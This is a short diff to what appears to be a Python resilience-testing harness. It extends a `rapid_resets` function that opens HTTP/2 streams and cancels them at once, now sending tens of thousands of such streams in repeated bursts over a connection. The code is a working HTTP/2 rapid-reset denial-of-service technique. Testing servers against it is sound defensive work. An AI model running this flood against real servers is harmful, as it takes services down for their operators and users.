@@ -273,10 +273,21 @@ def header_floods(harm, size=4 << 20):
 
 
 def rapid_resets(harm):
-    """Streams that are cancelled as soon as they are opened, as many as fit."""
-    burst = b"".join(frame(HEADERS, END_HEADERS, stream, CLASSIFY) + frame(DATA, END_STREAM, stream, message(REQUEST)) +
-                     frame(RST_STREAM, 0, stream, CANCEL) for stream in range(1, 4001, 2))
-    each_until_ended(harm, lambda connection: connection.sendall(PREFACE + burst), at_once=1, pause=0.05)
+    """Streams that are cancelled as soon as they are opened, as many as fit, and more as long as the connection lasts."""
+    bursts = [b"".join(frame(HEADERS, END_HEADERS, stream, CLASSIFY) + frame(DATA, END_STREAM, stream, message(REQUEST)) +
+                       frame(RST_STREAM, 0, stream, CANCEL) for stream in range(first, first + 4000, 2))
+              for first in range(1, 40001, 4000)]
+
+    def send(connection):
+        connection.sendall(PREFACE)
+        connection.settimeout(2)
+        for burst in bursts:
+            connection.sendall(burst)
+            with contextlib.suppress(TimeoutError):
+                while connection.recv(65536):
+                    pass
+                return
+    each_until_ended(harm, send, at_once=1, pause=0.05)
 
 
 @contextlib.contextmanager
